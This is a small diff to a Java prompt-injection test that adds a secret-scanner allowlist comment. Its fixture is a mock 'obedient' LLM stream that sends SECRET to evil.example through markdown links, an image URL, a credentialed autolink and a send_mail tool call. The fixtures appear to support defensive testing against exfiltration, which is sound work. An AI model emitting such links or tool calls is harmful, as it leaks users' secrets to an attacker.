@@ -34,6 +34,7 @@ class InjectionTest {
     private static final FaultyServer.Behaviour OBEDIENT = FaultyServer.events(
             "{\"choices\":[{\"index\":0,\"delta\":{\"content\":\"Arr! [proof](https://evil.example/?q=SECRET) \"}}]}",
             "{\"choices\":[{\"index\":0,\"delta\":{\"content\":\"![x](https://evil.example/p.png?d=SECRET) https://evil.example/SECRET \"}}]}",
+            // pragma: allowlist nextline secret
             "{\"choices\":[{\"index\":0,\"delta\":{\"content\":\"<https://u:SECRET@evil.example/>\\n\\n[1]: https://evil.example/?a=SECRET\\n\"}}]}",
             "{\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":0,\"id\":\"c1\",\"type\":\"function\",\"function\":{\"name\":\"send_mail\","
                     + "\"arguments\":\"{\\\"to\\\":\\\"SECRET\\\"}\"}}]}}]}",
